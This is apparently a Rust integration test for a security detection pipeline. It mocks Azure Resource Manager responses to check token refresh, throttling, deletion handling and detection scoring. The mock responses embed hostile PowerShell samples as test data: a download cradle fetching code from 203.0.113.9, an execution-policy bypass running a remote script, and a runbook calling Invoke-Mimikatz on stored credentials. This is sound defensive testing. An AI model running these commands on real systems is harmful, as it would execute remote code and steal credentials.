//! ARM enrichment against a replayed ARM served on loopback: managed run command script,
//! extension settings, runbook content; a 401 (expired token) refreshed once, a 429 honoured
//! after Retry-After, a 404 reported as deleted.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use axum::extract::State;
use axum::http::{HeaderMap, StatusCode, Uri};
use axum::response::{IntoResponse, Response};
use cadet_azure_function::enrich::{ArmEnricher, TokenSource};
use cadet_core::{Policy, SignalId};
use cadet_pipeline::{Enricher, Pipeline, Raw};
use cadet_sinks::BoxFuture;
use cadet_state::MemoryStore;

/// Hands out `t1`, then `t2` once invalidated.
#[derive(Debug, Default)]
struct Tokens {
    invalidated: AtomicUsize,
    issued: AtomicUsize,
}

impl TokenSource for Tokens {
    fn token(&self) -> BoxFuture<'_, Result<String, String>> {
        Box::pin(async move {
            self.issued.fetch_add(1, Ordering::SeqCst);
            Ok(if self.invalidated.load(Ordering::SeqCst) == 0 {
                "t1".to_string()
            } else {
                "t2".to_string()
            })
        })
    }
    fn invalidate(&self) {
        self.invalidated.fetch_add(1, Ordering::SeqCst);
    }
}

#[derive(Default)]
struct Arm {
    requests: std::sync::Mutex<Vec<String>>,
    throttled: AtomicUsize,
}

async fn arm(State(s): State<Arc<Arm>>, uri: Uri, headers: HeaderMap) -> Response {
    let path = uri.path().to_string();
    s.requests
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .push(format!(
            "{path} {}",
            headers
                .get("authorization")
                .and_then(|v| v.to_str().ok())
                .unwrap_or("")
        ));
    let auth = headers.get("authorization").and_then(|v| v.to_str().ok());
    if auth != Some("Bearer t2") {
        return (
            StatusCode::UNAUTHORIZED,
            "{\"error\":{\"code\":\"ExpiredAuthenticationToken\"}}",
        )
            .into_response();
    }
    if !uri.query().unwrap_or("").contains("api-version=") {
        return (StatusCode::BAD_REQUEST, "missing api-version").into_response();
    }
    if path.ends_with("/runCommands/rc-hotfix") {
        return (StatusCode::OK, r#"{"properties":{"source":{"script":"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"}}}"#).into_response();
    }
    if path.ends_with("/extensions/CustomScriptExtension") {
        if s.throttled.fetch_add(1, Ordering::SeqCst) == 0 {
            return (
                StatusCode::TOO_MANY_REQUESTS,
                [("retry-after", "1")],
                "slow down",
            )
                .into_response();
        }
        return (StatusCode::OK, r#"{"properties":{"settings":{"commandToExecute":"powershell -ExecutionPolicy Bypass -File a.ps1","fileUris":["https://203.0.113.9/a.ps1"]}}}"#).into_response();
    }
    if path.ends_with("/runbooks/qwhzrtplkmvbxcd/content") {
        return (
            StatusCode::OK,
            "$c = Get-AutomationPSCredential -Name x; Invoke-Mimikatz",
        )
            .into_response();
    }
    (StatusCode::NOT_FOUND, "{\"error\":{\"code\":\"NotFound\"}}").into_response()
}

async fn serve() -> (String, Arc<Arm>) {
    let state = Arc::new(Arm::default());
    let app = axum::Router::new().fallback(arm).with_state(state.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let addr = listener.local_addr().unwrap_or_else(|e| panic!("{e}"));
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    (format!("http://{addr}"), state)
}

fn sample(rel: &str) -> String {
    let p = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../events")
        .join(rel);
    std::fs::read_to_string(&p).unwrap_or_else(|e| panic!("{}: {e}", p.display()))
}

fn ids(o: &cadet_pipeline::Outcome) -> Vec<String> {
    o.finding()
        .unwrap_or_else(|| panic!("{o:?}"))
        .signals
        .iter()
        .map(|s| s.id.to_string())
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn arm_content_is_read_scored_and_failures_are_explained() {
    let (url, arm) = serve().await;
    let tokens = Arc::new(Tokens::default());
    let enricher = Arc::new(
        ArmEnricher::new(&url, tokens.clone(), Duration::from_secs(5))
            .unwrap_or_else(|e| panic!("{e}")),
    );
    let p = Pipeline::new(MemoryStore::new(), Policy::default(), vec![])
        .with_enrichers(vec![enricher.clone() as Arc<dyn Enricher>]);

    // Managed run command: the first token is expired (401), refreshed once.
    let o = p
        .process_one(Raw::Text(&sample("azure/vm-managed-runcommand-write.json")))
        .await;
    let got = ids(&o);
    assert!(
        got.contains(&SignalId::DownloadCradle.as_str().to_string()),
        "{got:?}"
    );
    assert_eq!(tokens.invalidated.load(Ordering::SeqCst), 1);

    // Custom Script extension: throttled once (429, Retry-After: 1), then read.
    let started = std::time::Instant::now();
    let o = p
        .process_one(Raw::Text(&sample("azure/vm-extension-customscript.json")))
        .await;
    assert!(
        started.elapsed() >= Duration::from_millis(900),
        "Retry-After honoured"
    );
    let got = ids(&o);
    assert!(
        got.contains(&SignalId::ExecutionPolicyBypass.as_str().to_string()),
        "{got:?}"
    );
    let f = o.finding().unwrap_or_else(|| panic!("{o:?}"));
    assert!(f
        .command_text
        .as_deref()
        .unwrap_or("")
        .contains("https://203.0.113.9/a.ps1"));

    // Runbook: published content read, draft absent (404) — not an error on its own.
    let o = p
        .process_one(Raw::Text(&sample("azure/automation-runbook-publish.json")))
        .await;
    let got = ids(&o);
    assert!(
        got.contains(&SignalId::CredentialAccess.as_str().to_string()),
        "{got:?}"
    );
    assert!(
        !got.contains(&SignalId::EnrichmentUnavailable.as_str().to_string()),
        "{got:?}"
    );

    // A runbook that is gone everywhere: deleted right after use.
    let gone = sample("azure/automation-runbook-write.json")
        .replace("qwhzrtplkmvbxcd", "DeletedRightAway");
    let o = p.process_one(Raw::Text(&gone)).await;
    let f = o.finding().unwrap_or_else(|| panic!("{o:?}"));
    let why = f
        .signals
        .iter()
        .find(|s| s.id == SignalId::EnrichmentUnavailable.as_str())
        .map(|s| s.reason.clone())
        .unwrap_or_else(|| panic!("{:?}", f.signals));
    assert!(why.contains("deleted right after use"), "{why}");
    let cleanup = f
        .signals
        .iter()
        .find(|s| s.id == SignalId::SequenceCleanup.as_str())
        .map(|s| s.reason.clone())
        .unwrap_or_else(|| panic!("the deletion feeds the clean-up sequence: {:?}", f.signals));
    assert!(cleanup.contains("already deleted"), "{cleanup}");

    // Run Command (action) scripts are not in ARM: nothing is requested for them.
    let rc = cadet_core::normalize(&sample("azure/vm-runcommand-admin-benign.json"))
        .ok()
        .flatten()
        .unwrap_or_else(|| panic!("sample"));
    assert!(!enricher.applies(&rc));
    let requests = arm
        .requests
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .clone();
    assert!(
        requests.iter().all(|r| !r.contains("/runCommand ")),
        "{requests:?}"
    );
    assert!(
        requests
            .iter()
            .all(|r| !r.contains("t1") || r.contains("runCommands/rc-hotfix")),
        "only the first call used the expired token: {requests:?}"
    );
}
